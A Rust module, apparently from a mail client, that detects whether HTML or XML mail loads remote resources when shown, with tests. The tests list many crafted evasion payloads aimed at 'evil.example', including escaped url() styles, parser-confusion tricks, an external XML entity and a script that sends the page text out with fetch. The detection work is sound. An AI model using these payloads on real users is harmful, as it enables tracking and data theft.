//! Finds out whether HTML loads something from elsewhere when it is shown.
//!
//! Programs read broken HTML in different ways, so two looks are taken, and one that finds something is enough: one reads
//! tags as browsers do, and one looks at everything that stands like an attribute, wherever it is. What is written with
//! references (`&#117;rl`) or escapes of CSS (`\75rl`) is looked at as it reads.

use memchr::memmem;

/// Returns true if HTML or XML loads something from elsewhere when it is shown; links that are followed by hand do not
/// count.
pub(super) fn calls_home(html: &[u8], is_xml: bool) -> bool {
    let mut html = html.to_ascii_lowercase();
    // What XML includes or is styled by; in HTML these are comments.
    if is_xml
        && [&b"<?xml-stylesheet"[..], b"<!entity", b"xi:include"].iter().any(|it| has(&html, it))
    {
        return true;
    }
    if looks_outside(&html) {
        return true;
    }
    if has(&html, b"&") || has(&html, b"\\") {
        html = without_escapes(&html);
        return looks_outside(&html);
    }
    false
}

fn looks_outside(html: &[u8]) -> bool {
    has_remote_style(html) || has_remote_attribute(html) || has_remote_tag(html)
}

fn has(html: &[u8], text: &[u8]) -> bool {
    memmem::find(html, text).is_some()
}

/// Returns true if a style names an address that is not inside the message.
fn has_remote_style(html: &[u8]) -> bool {
    has(html, b"@import")
        || has(html, b"image-set(")
        || memmem::find_iter(html, b"url(").any(|at| {
            let value = html.get(at + 4..).unwrap_or_default().trim_ascii_start();
            !is_inside(value.strip_prefix(b"'").or(value.strip_prefix(b"\"")).unwrap_or(value))
        })
}

/// Returns true if something that stands like an attribute names an address outside; wherever it stands, because what is a
/// comment or a value for one program is a tag for another.
fn has_remote_attribute(html: &[u8]) -> bool {
    // Values do not lie in each other in HTML that a program wrote, or only a few do.
    let mut left = html.len().saturating_mul(MAX_OVERLAP);
    memchr::memchr_iter(b'=', html).any(|at| {
        let before = html.get(at.saturating_sub(MAX_NAME)..at).unwrap_or_default();
        let before = before.trim_ascii_end();
        let start = before.iter().rposition(|byte| !is_name(*byte)).map_or(0, |at| at + 1);
        let name = before.get(start..).unwrap_or_default();
        // `?src=1&data=2` is a part of an address.
        let stands_alone = start.checked_sub(1).and_then(|at| before.get(at)).is_none_or(|byte| {
            byte.is_ascii_whitespace() || matches!(byte, b'/' | b'"' | b'\'' | b'(' | b',')
        });
        if !stands_alone || !LOADING.contains(&name) {
            return false;
        }
        let after = html.get(at + 1..).unwrap_or_default().trim_ascii_start();
        let value = value_of(after.get(..MAX_VALUE).unwrap_or(after));
        left = left.saturating_sub(value.len());
        let is_address = has(value, b"//") || has(value, b"url=") || name == b"srcdoc";
        left == 0 || is_address && loads_outside(b"", name, value)
    })
}

/// Returns the value of an attribute, as far as it is there.
fn value_of(after: &[u8]) -> &[u8] {
    let (value, end) = match after.split_first() {
        Some((&quote @ (b'"' | b'\''), rest)) => (rest, memchr::memchr(quote, rest)),
        _ => (after, after.iter().position(|it| it.is_ascii_whitespace() || *it == b'>')),
    };
    value.get(..end.unwrap_or(value.len())).unwrap_or_default()
}

/// Returns true if a tag loads something from elsewhere.
fn has_remote_tag(html: &[u8]) -> bool {
    let mut rest = html;
    while let Some(at) = memchr::memchr(b'<', rest) {
        rest = rest.get(at + 1..).unwrap_or_default();
        if rest.first().is_some_and(u8::is_ascii_alphabetic) {
            let mut tag = Tag::start(rest);
            let name = tag.name();
            // A program, but for the data of search engines.
            let mut is_program = name == b"script";
            while let Some((attribute, value)) = tag.attribute() {
                if loads_outside(name, attribute, value) {
                    return true;
                }
                is_program &= !(attribute == b"type" && value.ends_with(b"json"));
            }
            if is_program {
                return true;
            }
            rest = tag.rest;
        }
    }
    // A tag may also begin where the first look saw a value.
    let mut left = MAX_LINKS;
    LOADING_LINKS.iter().any(|tag| {
        memmem::find_iter(html, tag).any(|at| {
            left = left.saturating_sub(1);
            let near = html.get(at..).unwrap_or_default();
            let near = near.get(..MAX_TAG).unwrap_or(near);
            left == 0 || has_remote_href(near)
        })
    })
}

fn has_remote_href(near: &[u8]) -> bool {
    memmem::find_iter(near, b"href").any(|at| {
        let value = near.get(at + 4..).unwrap_or_default().trim_ascii_start();
        let Some(value) = value.strip_prefix(b"=") else { return false };
        let value = value.trim_ascii_start();
        !is_inside(value.strip_prefix(b"'").or(value.strip_prefix(b"\"")).unwrap_or(value))
    })
}

/// Returns true if a browser loads what an attribute of a tag names, and it is outside. Without a tag, `href` may be one of
/// a link that is followed by hand.
fn loads_outside(tag: &[u8], attribute: &[u8], value: &[u8]) -> bool {
    match attribute {
        b"href" | b"xlink:href" => !matches!(tag, b"a" | b"area" | b"") && !is_inside(value),
        b"srcset" | b"imagesrcset" => !is_set_inside(value),
        b"action" | b"archive" | b"attributionsrc" | b"background" | b"classid" | b"codebase"
        | b"data" | b"dynsrc" | b"formaction" | b"icon" | b"lowsrc" | b"manifest" | b"ping"
        | b"poster" | b"src" | b"xml:base" => !is_inside(value),
        // What an animation gives to another attribute, which may be an address.
        b"by" | b"from" | b"to" | b"values" => has(value, b"//"),
        // What a plugin is given.
        b"value" => tag == b"param" && !is_inside(value) && has(value, b"//"),
        // A document of its own.
        b"srcdoc" => value.iter().any(|byte| matches!(byte, b'<' | b'&')),
        b"content" => is_refresh(value),
        _ => false,
    }
}

/// Returns true for `0; url=http://…`, as `<meta http-equiv="refresh">` has it; `url=` may be missing.
fn is_refresh(value: &[u8]) -> bool {
    let value = value.trim_ascii_start();
    let is_time = value.first().is_some_and(|byte| byte.is_ascii_digit() || *byte == b'.');
    let mut pieces = value.splitn(2, |byte| matches!(byte, b';' | b','));
    let goes = pieces.nth(1).is_some_and(|rest| !rest.trim_ascii().is_empty());
    is_time && goes || has(value, b"url=")
}

/// Returns true if each candidate of a `srcset` is inside.
fn is_set_inside(value: &[u8]) -> bool {
    let mut is_data = false;
    value.split(|byte| *byte == b',').all(|piece| {
        // The comma of a data address is none between candidates.
        let was_data = std::mem::replace(&mut is_data, piece.trim_ascii().starts_with(b"data:"));
        was_data || is_inside(piece)
    })
}

/// Returns true if an address leads into the message itself, or nowhere. Data that is a document has addresses of its own.
fn is_inside(value: &[u8]) -> bool {
    // What stands behind it may be the rest of the document.
    let value = value.trim_ascii_start();
    if let Some(data) = value.strip_prefix(b"data:") {
        let data = data.get(..MAX_NAME).unwrap_or(data);
        let kind = data.split(|byte| matches!(byte, b';' | b',')).next().unwrap_or_default();
        let is_picture = kind.starts_with(b"image/") && !kind.starts_with(b"image/svg");
        return is_picture || kind.starts_with(b"font/") || kind == b"application/font-woff";
    }
    value.is_empty()
        || [&b"cid:"[..], b"mid:", b"#", b"about:blank"].iter().any(|it| value.starts_with(it))
}

/// Returns HTML as it reads: numeric and a few named references, and escapes of CSS, replaced by what they stand for.
fn without_escapes(html: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(html.len());
    let mut rest = html;
    while let Some((&first, tail)) = rest.split_first() {
        let found = match first {
            b'&' => reference(tail),
            b'\\' => css_escape(tail),
            _ => None,
        };
        let (byte, length) = found.unwrap_or((first, 0));
        out.push(byte);
        rest = tail.get(length..).unwrap_or_default();
    }
    out
}

/// Reads a reference behind its `&`: the character, if it is ASCII, and the length.
fn reference(rest: &[u8]) -> Option<(u8, usize)> {
    let named = NAMED.iter().find_map(|(name, byte)| Some((*byte, rest.strip_prefix(*name)?)));
    if let Some((byte, after)) = named {
        return Some((byte, rest.len() - after.len()));
    }
    let digits = rest.strip_prefix(b"#")?;
    let (digits, radix) = digits.strip_prefix(b"x").map_or((digits, 10), |digits| (digits, 16));
    let length =
        digits.iter().take(MAX_DIGITS).take_while(|it| char::from(**it).is_digit(radix)).count();
    let number = std::str::from_utf8(digits.get(..length)?).ok()?;
    let number = u32::from_str_radix(number, radix).ok()?;
    let end = usize::from(digits.get(length) == Some(&b';'));
    let byte = u8::try_from(number).ok().filter(u8::is_ascii)?.to_ascii_lowercase();
    Some((byte, rest.len() - digits.len() + length + end))
}

/// Reads an escape of CSS behind its backslash.
fn css_escape(rest: &[u8]) -> Option<(u8, usize)> {
    let length = rest.iter().take(6).take_while(|byte| byte.is_ascii_hexdigit()).count();
    if length == 0 {
        return Some((*rest.first()?, 1));
    }
    let number = std::str::from_utf8(rest.get(..length)?).ok()?;
    let number = u32::from_str_radix(number, 16).ok()?;
    let end = usize::from(rest.get(length).is_some_and(u8::is_ascii_whitespace));
    let byte = u8::try_from(number).ok().filter(u8::is_ascii)?.to_ascii_lowercase();
    Some((byte, length + end))
}

fn is_name(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b':' | b'-' | b'_')
}

/// Reads a tag from left to right, as loosely as browsers do.
struct Tag<'h> {
    rest: &'h [u8],
}

impl<'h> Tag<'h> {
    fn start(rest: &'h [u8]) -> Self {
        Self { rest }
    }

    fn take_while(&mut self, is_part: impl Fn(u8) -> bool) -> &'h [u8] {
        let length = self.rest.iter().position(|byte| !is_part(*byte)).unwrap_or(self.rest.len());
        let (taken, rest) = self.rest.split_at_checked(length).unwrap_or_default();
        self.rest = rest;
        taken
    }

    fn name(&mut self) -> &'h [u8] {
        self.take_while(|byte| !byte.is_ascii_whitespace() && !matches!(byte, b'/' | b'>'))
    }

    /// Returns the next attribute and its value; nothing at the end of the tag.
    fn attribute(&mut self) -> Option<(&'h [u8], &'h [u8])> {
        self.take_while(|byte| byte.is_ascii_whitespace() || matches!(byte, b'/' | b'"' | b'\''));
        if matches!(self.rest.first(), None | Some(b'>')) {
            return None;
        }
        let before = self.rest.len();
        let name = self
            .take_while(|byte| !byte.is_ascii_whitespace() && !matches!(byte, b'/' | b'>' | b'='));
        self.take_while(|byte| byte.is_ascii_whitespace());
        let Some(value) = self.rest.strip_prefix(b"=") else { return Some((name, b"")) };
        self.rest = value;
        self.take_while(|byte| byte.is_ascii_whitespace());
        let value = match self.rest.split_first() {
            Some((&quote @ (b'"' | b'\''), rest)) => {
                self.rest = rest;
                let value = self.take_while(|byte| byte != quote);
                self.rest = self.rest.get(1..).unwrap_or_default();
                value
            }
            _ => self.take_while(|byte| !byte.is_ascii_whitespace() && byte != b'>'),
        };
        debug_assert!(self.rest.len() < before);
        Some((name, value))
    }
}

/// Attributes that can be loaded without a tag that is known; see [`loads_outside`].
const LOADING: [&[u8]; 24] = [
    b"action",
    b"archive",
    b"attributionsrc",
    b"background",
    b"by",
    b"classid",
    b"codebase",
    b"content",
    b"data",
    b"dynsrc",
    b"formaction",
    b"from",
    b"icon",
    b"imagesrcset",
    b"lowsrc",
    b"manifest",
    b"ping",
    b"poster",
    b"src",
    b"srcdoc",
    b"srcset",
    b"to",
    b"values",
    b"xml:base",
];

/// Tags whose `href` is loaded.
const LOADING_LINKS: [&[u8]; 6] = [b"<link", b"<base", b"<image", b"<use", b"<feimage", b"<script"];

/// References by name that can stand in an address or a style, and the `;` behind them.
const NAMED: [(&[u8], u8); 13] = [
    (b"amp;", b'&'),
    (b"apos;", b'\''),
    (b"bsol;", b'\\'),
    (b"colon;", b':'),
    (b"commat;", b'@'),
    (b"equals;", b'='),
    (b"gt;", b'>'),
    (b"lpar;", b'('),
    (b"lt;", b'<'),
    (b"period;", b'.'),
    (b"quot;", b'"'),
    (b"sol;", b'/'),
    (b"tab;", b' '),
];

/// The longest name of an attribute that is looked for, with white space before the `=`.
const MAX_NAME: usize = 64;

/// How often the bytes of a document may be looked at as values of attributes, before it counts as hostile.
const MAX_OVERLAP: usize = 4;

/// What is looked at of a value: a picture inside may be large.
const MAX_VALUE: usize = 2_048;

/// What is looked at behind the name of a tag whose `href` is loaded.
const MAX_TAG: usize = 512;

/// Such tags looked at; no honest mail has as many.
const MAX_LINKS: usize = 2_000;

/// Digits of a reference; zeros may stand before it.
const MAX_DIGITS: usize = 32;

#[cfg(test)]
mod tests {
    use super::calls_home;

    #[test]
    fn what_is_loaded_by_itself_is_found() {
        for html in [
            "<img src=\"http://evil.example/secret",
            "<IMG\nalt=x SRC = http://evil.example/x>",
            "<img src='//evil.example/'>",
            "<img src=\"&#104;ttp://evil.example\">",
            "<img srcset=\"cid:1@acme.example, http://evil.example/x 2x\">",
            "<img srcset=\"data:image/png;base64,AA 1x, //evil.example/x 2x\">",
            "<picture><source srcset=http://evil.example/x></picture>",
            "<link rel=stylesheet href=http://evil.example/a.css>",
            "<link rel=prefetch href=//evil.example>",
            "<link rel=dns-prefetch href='//secret.evil.example'>",
            "<link rel=preload as=image imagesrcset='http://evil.example 1x'>",
            "<body background=\"http://evil.example/\">",
            "<table><td background=http://evil.example/>",
            "<div style=\"background: url( 'http://evil.example/')\">",
            "<div style=\"background:&#117;rl(http://evil.example/)\">",
            "<div style=\"background:url&lpar;http://evil.example/)\">",
            "<div style=\"background:\\75 rl(http://evil.example/)\">",
            "<div style=\"background:u\\rl(http://evil.example/)\">",
            "<div style=\"background:image-set('http://evil.example/' 1x)\">",
            "<style>@import 'http://evil.example/'</style>",
            "<style>@\\69mport 'http://evil.example/'</style>",
            "<style>@font-face { src: url(http://evil.example/) }</style>",
            "<meta http-equiv=refresh content=\"0; url=http://evil.example/\">",
            "<meta http-equiv=refresh content=\"0;http://evil.example/\">",
            "<base href=\"http://evil.example/\">",
            "<video poster=http://evil.example/>",
            "<audio src=http://evil.example/>",
            "<iframe src=http://evil.example/>",
            "<iframe srcdoc=\"<img src=http://evil.example/>\">",
            "<iframe srcdoc=\"&lt;img src=http://evil.example/>\">",
            "<iframe src=\"data:text/html,<img src=http://evil.example/>\">",
            "<iframe src=\"data:text/html;base64,PGltZyBzcmM9Ly9ldmlsLmV4YW1wbGU+\">",
            "<object data=\"data:image/svg+xml;base64,PHN2Zz4=\">",
            "<object classid=http://evil.example/>",
            "<applet codebase=http://evil.example/>",
            "<embed src=http://evil.example/>",
            "<form action=http://evil.example/><input></form>",
            "<button formaction=http://evil.example/>",
            "<input type=image src=http://evil.example/>",
            "<a href=x ping=http://evil.example/>",
            "<html manifest=http://evil.example/>",
            "<svg><image xlink:href=\"http://evil.example/\"/></svg>",
            "<svg><use href=\"http://evil.example/#a\"/></svg>",
            "<svg><feImage href='http://evil.example/'/></svg>",
            "<svg><rect fill=\"url(http://evil.example/#a)\"/></svg>",
            "<v:fill src=\"http://evil.example/\"/>",
            "<img alt=\"a>b\" src=x.png>",
            "<!-- <a x=\" --><img src=http://evil.example/><!-- \" -->",
            "<!-- <a x=\" --><link href=http://evil.example/><!-- \" -->",
            "<title><a x='</title><img src=http://evil.example/><b y='>",
            "<link title=\"<a\" href=http://evil.example/>",
            "<!--[if mso]><v:image src='http://evil.example/'/><![endif]-->",
            "<img/src=http://evil.example/>",
            "<svg><animate xlink:href=#x attributeName=href values=http://evil.example /><image id=x /></svg>",
            "<svg><set attributeName=href to=//evil.example /></svg>",
            "<img src=cid:1 attributionsrc=//evil.example>",
            "<div style=\"filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='http://evil.example/')\">",
            "<script>fetch('//evil.example/'+document.body.innerText)</script>",
            "<object><param name=movie value=http://evil.example></object>",
        ] {
            assert!(calls_home(html.as_bytes(), false), "{html}");
        }
        for xml in [
            "<?xml-stylesheet href=\"http://evil.example/\"?><a/>",
            "<!DOCTYPE a [<!ENTITY b SYSTEM \"http://evil.example/\">]><a>&b;</a>",
            "@import url(http://evil.example/);",
            "body { background: url(//evil.example) }",
        ] {
            assert!(calls_home(xml.as_bytes(), true), "{xml}");
        }
    }

    #[test]
    fn ordinary_html_is_left_alone() {
        for html in [
            "<html xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns=\"http://www.w3.org/TR/REC-html40\"><p>Hello</p></html>",
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
            "<a href=\"http://acme.example/?a=1&amp;src=2&amp;b=3\">link</a> <area href=http://acme.example/>",
            "<option value=\"http://acme.example/\">Acme</option> <font from=a to=b>",
            "<img src=\"cid:1@acme.example\"><img src=\"data:image/png;base64,AA\"><img src=''>",
            "<img srcset=\"cid:1@acme.example 1x, data:image/png;base64,//AA 2x\">",
            "<div style=\"background:url(cid:2@acme.example)\">1 < 2 http://acme.example/</div>",
            "<style>@font-face { font-family: \"\\FF2D\\FF33 Mincho\"; panose-1:2 11 6 9 } p { font-family:\"\\@SimSun\" }</style>",
            "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">",
            "<meta name=viewport content=\"width=device-width, initial-scale=1\"><meta name=Generator content=\"Microsoft Word 15\">",
            "<script type=\"application/ld+json\">{\"@context\":\"http://schema.org\"}</script>",
            "<p>(data = https, //) and so=on</p>",
            "<form><input name=a value=\"http://acme.example/\"></form>",
            "a == b and x = y, &#228; &uuml; &nbsp; C:\\temp",
            "<",
            "",
        ] {
            assert!(!calls_home(html.as_bytes(), false), "{html}");
        }
    }

    #[test]
    fn many_tags_take_linear_time() {
        for piece in [
            "<a =",
            "<a a=\"",
            "<link ",
            "<link href=cid:1 ",
            "=\"",
            "&#",
            "\\",
            "srcset=",
            "srcset=\",",
            "url(cid:",
            "url(data:image/a",
            "=",
            "&=",
            "src==",
            "/src=cid:a",
            " src='\"",
        ] {
            let mut html = piece.repeat(500_000 / piece.len()).into_bytes();
            calls_home(&html, false);
            html.extend(vec![b' '; 100_000]);
            calls_home(&html, false);
        }
    }
}
